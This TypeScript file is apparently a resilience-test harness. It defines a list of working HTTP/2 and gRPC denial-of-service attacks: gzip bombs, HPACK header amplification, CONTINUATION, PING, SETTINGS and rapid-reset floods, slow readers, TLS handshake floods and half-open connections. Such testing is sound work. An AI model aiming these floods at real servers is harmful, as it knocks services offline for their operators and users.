/** What can be done below the frames. Each is over TLS with keys of the attacker's own, unless plaintext is the stronger. */

import { gzipSync } from 'node:zlib';
import { helloMessage, openedStream, PATH, seedMessage, withoutStream } from '../../test/support/hostile-packets.ts';
import { callHeaders, END_HEADERS, FRAME, frame, literalHeader } from '../../test/support/http2-frames.ts';
import type { Attack } from './attack.ts';
import { pour, type Shot } from './siege.ts';
import { streamOver } from './stream-over.ts';

/** Of one write: large enough that the attacker's own calls don't slow it down. */
const CHUNK_BYTES = 64 * 1024;

function many(one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: Math.ceil(CHUNK_BYTES / one.length) }, () => one));
}

/** Linked first: then it may stay, and flood for longer. */
function linked({ socket, address, run }: Shot, then: Buffer): void {
  socket.write(openedStream(helloMessage(address, run)));
  pour(socket, () => then);
}

const GZIP = { 'grpc-encoding': 'gzip' };
const ZEROS = 4 * 1024 * 1024;

export const WIRE_ATTACKS: readonly Attack[] = [
  {
    name: 'silent connections',
    over: 'TCP: nothing is ever said',
    keys: 0,
    begin: (siege) => siege.keep(2_000, 'silent', () => {}),
  },
  {
    name: 'streams without hello',
    over: 'TLS: plaintext would cost less',
    keys: 100,
    begin: (siege) => siege.keep(500, 'tls', ({ socket }) => socket.write(openedStream())),
  },
  {
    name: 'unfinished 4 MB messages',
    over: 'plaintext: a seed node may say 4 MiB, others 256 KiB',
    keys: 0,
    begin: (siege) => {
      const unfinished = seedMessage(Buffer.alloc(ZEROS - 8, 'x')).subarray(0, -1);
      siege.keep(300, 'plaintext', ({ socket, address }) => {
        const stream = streamOver(socket);
        stream.write(seedMessage(address));
        stream.write(unfinished);
      });
    },
  },
  {
    name: 'gzip bombs',
    over: 'TLS',
    keys: 100,
    begin: (siege) => {
      const packed = gzipSync(seedMessage(Buffer.alloc(ZEROS - 64)).subarray(5));
      const head = Buffer.alloc(5);
      head[0] = 1;
      head.writeUInt32BE(packed.length, 1);
      const bombs = many(Buffer.concat([head, packed]));
      siege.keep(200, 'tls', ({ socket }) => streamOver(socket, GZIP).write(bombs));
    },
  },
  {
    name: '60 KB header blocks',
    over: 'TLS; one field put into the table once, then named 15 times by a byte each: 60 KB for 20 bytes',
    keys: 100,
    begin: (siege) => {
      const value = 'v'.repeat(3_900);
      const indexed = Buffer.concat([
        Buffer.from([0x40, 1]),
        Buffer.from('x'),
        Buffer.from([0x7f, 0xbd, 0x1d]), // 3,900, as a 7-bit prefix integer
        Buffer.from(value),
      ]);
      const block = Buffer.concat([callHeaders(PATH, 'x'), Buffer.alloc(15, 0x80 + 62)]);
      siege.keep(200, 'tls', ({ socket }) => {
        socket.write(withoutStream());
        socket.write(frame(FRAME.headers, END_HEADERS, 1, Buffer.concat([callHeaders(PATH, 'x'), indexed])));
        let streamId = 1;
        pour(socket, () => {
          const frames: Buffer[] = [];
          for (let i = 0; i < 400; i++) {
            streamId += 2;
            frames.push(frame(FRAME.headers, END_HEADERS, streamId, block));
          }
          return Buffer.concat(frames);
        });
      });
    },
  },
  {
    name: 'slow readers',
    over: 'TLS: 150 links that never read, while the victim says 2 MB/s',
    keys: 150,
    victimSaysBytes: 2_000_000,
    begin: (siege) =>
      siege.keep(150, 'tls', ({ socket, address, run }) => {
        // A window as large as there is: all the victim says may be on its way.
        const window = Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff]);
        socket.write(openedStream(helloMessage(address, run), window));
        setTimeout(() => socket.pause(), 200);
      }),
  },
  {
    name: 'CONTINUATION flood',
    over: 'TLS',
    keys: 100,
    begin: (siege) => {
      const more = many(frame(FRAME.continuation, 0, 1, literalHeader('x-junk', 'x'.repeat(100))));
      siege.keep(200, 'tls', ({ socket }) => {
        socket.write(Buffer.concat([withoutStream(), frame(FRAME.headers, 0, 1, callHeaders(PATH, 'x'))]));
        pour(socket, () => more);
      });
    },
  },
  {
    name: 'PING flood',
    over: 'TLS, on links',
    keys: 150,
    begin: (siege) => siege.keep(150, 'tls', (shot) => linked(shot, many(frame(FRAME.ping, 0, 0, Buffer.alloc(8))))),
  },
  {
    name: 'SETTINGS flood',
    over: 'TLS, on links',
    keys: 150,
    begin: (siege) => {
      const setting = Buffer.from([0, 3, 0, 0, 0, 100]);
      siege.keep(150, 'tls', (shot) => linked(shot, many(frame(FRAME.settings, 0, 0, setting))));
    },
  },
  {
    name: 'rapid-reset flood',
    over: 'TLS',
    keys: 100,
    begin: (siege) => {
      const headers = callHeaders(PATH, 'x');
      const reset = Buffer.from([0, 0, 0, 8]);
      siege.keep(200, 'tls', ({ socket }) => {
        socket.write(withoutStream());
        let streamId = -1;
        pour(socket, () => {
          const frames: Buffer[] = [];
          for (let i = 0; i < 200; i++) {
            streamId += 2;
            frames.push(
              frame(FRAME.headers, END_HEADERS, streamId, headers),
              frame(FRAME.rstStream, 0, streamId, reset),
            );
          }
          return Buffer.concat(frames);
        });
      });
    },
  },
  {
    name: 'TLS handshake flood',
    over: 'TLS, hung up as soon as it is done',
    keys: 20,
    begin: (siege) => siege.keep(64, 'tls', ({ socket }) => socket.destroy()),
  },
  {
    name: 'half-open hellos',
    over: 'TLS: a stream, and a hello that lacks its last byte',
    keys: 100,
    begin: (siege) =>
      siege.keep(500, 'tls', ({ socket, address, run }) => {
        const hello = helloMessage(address, run);
        socket.write(openedStream(hello.subarray(0, -1)));
      }),
  },
];
